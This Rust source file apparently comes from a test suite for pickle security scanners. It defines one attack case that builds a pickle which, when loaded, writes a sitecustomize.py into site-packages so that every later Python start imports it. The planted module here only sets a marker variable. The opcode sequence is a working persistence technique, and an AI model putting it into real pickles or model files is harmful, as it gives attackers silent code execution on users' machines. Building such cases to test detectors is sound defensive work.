//! A `sitecustomize.py` among the installed packages: a module that every Python imports at its
//! start.

use super::*;
use crate::pickle::Op;

/// A module that Python imports at every start is planted.
pub const ATTACK: Attack = Attack {
    id: "sitecustomize-planting",
    title: "a sitecustomize.py that every start of Python imports",
    summary: "The pickle writes a module named sitecustomize into site-packages by open and \
              write alone. Every later Python of that environment imports it at its start, \
              and nothing says so.",
    severity: Severity::Critical,
    targets: Targets::Python(Loader::ALL),
    techniques: &[techniques::PYTHON_STARTUP_HOOKS, techniques::UNSAFE_ML_ARTIFACTS],
    cwe: &[502, 94],
    references: &[Reference {
        title: "Python documentation: site, sitecustomize",
        url: "https://docs.python.org/3/library/site.html#module-sitecustomize",
    }],
    build,
    expected: Expected::Effect {
        aquarium: &[Sign::Created("site-packages/sitecustomize.py")],
        policy: &[Evidence { kind: EventKind::FileWrite, text: "site-packages/sitecustomize.py" }],
    },
    quick: false,
};

fn build(scene: &Scene, target: Target) -> Result<Vec<u8>, BuildError> {
    let path = scene.path("site-packages/sitecustomize.py");
    let planted = "import os\nos.environ.setdefault('SITECUSTOMIZE_FALLEN', '1')\n";
    payload::file(ATTACK.id, target, |assembler| {
        assembler.text("io").text("TextIOWrapper.write").op(Op::StackGlobal);
        assembler.global("builtins", "open").text(&path).text("w").op(Op::Tuple2).op(Op::Reduce);
        assembler.text(planted).op(Op::Tuple2).op(Op::Reduce);
    })
}
